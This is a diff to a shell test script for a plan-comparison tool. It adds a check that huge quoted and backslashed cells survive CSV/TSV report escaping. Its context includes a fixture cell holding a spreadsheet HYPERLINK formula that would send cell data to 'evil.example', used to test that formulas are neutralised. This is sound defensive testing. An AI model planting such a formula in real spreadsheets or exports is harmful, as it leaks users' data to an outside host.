@@ -98,6 +98,16 @@ PY
 expect_status "compare the hostile plans" 0 "$PLANDIFF" compare -o "$T/cmp.xml" "$T/a.xml" "$T/b.xml"
 expect_status "render the hostile plans" 0 "$PLANDIFF" render -o "$T/rep" "$T/cmp.xml" "$T/a.xml" "$T/b.xml"
 check_tables "report tables: no cell starts a formula, every row whole" "$T"/rep/*.tsv "$T"/rep/*.csv
+# measures.csv/.tsv of the report hold every municipality's huge cells (a
+# recursive escape once dropped the table for every municipality).
+python3 - "$T/rep/measures.csv" "$T/rep/measures.tsv" "$quotes" "$backslashes" <<'PY' && pass "report measures: 1,000 quotes and 2,500 backslashes kept for both municipalities" || fail "report measures: 1,000 quotes and 2,500 backslashes kept for both municipalities"
+import csv, sys
+rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
+tsv = open(sys.argv[2], encoding="utf-8").read()
+ok = all(any(r[0] == m and r[2] == sys.argv[3] for r in rows) and any(r[0] == m and r[2] == sys.argv[4] for r in rows)
+         for m in ("aheim", "bheim"))
+sys.exit(0 if ok and tsv.count("\\\\" * 2500) == 2 else 1)
+PY
 grep -qF "'=HYPERLINK(" "$T/rep/goals.tsv" && pass "the HYPERLINK goal is in goals.tsv, as text" ||
   fail "the HYPERLINK goal is in goals.tsv, as text" "$(cut -c1-200 "$T/rep/goals.tsv")"
 csv_cell="\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Klikk\"\")\""
